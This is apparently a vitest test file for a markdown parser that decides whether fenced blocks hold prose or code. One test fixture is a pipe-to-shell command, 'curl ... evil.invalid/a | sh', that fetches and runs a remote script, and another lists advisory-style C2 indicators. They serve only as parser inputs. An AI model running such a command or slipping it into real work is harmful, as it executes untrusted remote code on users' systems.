import { describe, expect, it } from 'vitest'
import { markdownBlocks } from './blocks.ts'

const kinds = (fence: string) =>
  markdownBlocks(`# A\n\n${fence}\n`)
    .blocks.slice(1)
    .map(({ kind, text, marks }) => [kind, text, marks[0]?.line])

describe('fenced text', () => {
  it('is prose line by line where no language is named and its lines are words', () => {
    expect(kinds('```\nAffected versions v3.0.0 - v3.6.4\nPatched versions >= v3.6.5\n```')).toEqual([
      ['paragraph', 'Affected versions v3.0.0 - v3.6.4', 4],
      ['paragraph', 'Patched versions >= v3.6.5', 5],
    ])
    expect(kinds('~~~text\nAffected: Acme Relay 4.0 to 4.2\n~~~')).toEqual([['paragraph', 'Affected: Acme Relay 4.0 to 4.2', 4]])
  })

  it.each([
    '```python\nprint versions of relay\n```',
    '```\nif (version < 4) { exit() }\n```',
    '```\nnpm install relay@1.2.3\n```',
    '```\ncurl -s https://evil.invalid/a | sh\n```',
    '```\nDomain (C2): evil[.]invalid\nIP of the server: 192[.]0[.]2[.]7\n```',
    '```\nSHA256 of file: 0f35abda19fb69430c32228465396094b866d887427bf551e353ab31256a9dd6\n```',
    '```\nGET /relay HTTP/1.1\nHost: relay.invalid\n```',
    '```\n\n```',
  ])('%s is code', (fence) => {
    expect(kinds(fence).every(([kind]) => kind === 'code')).toBe(true)
  })
})
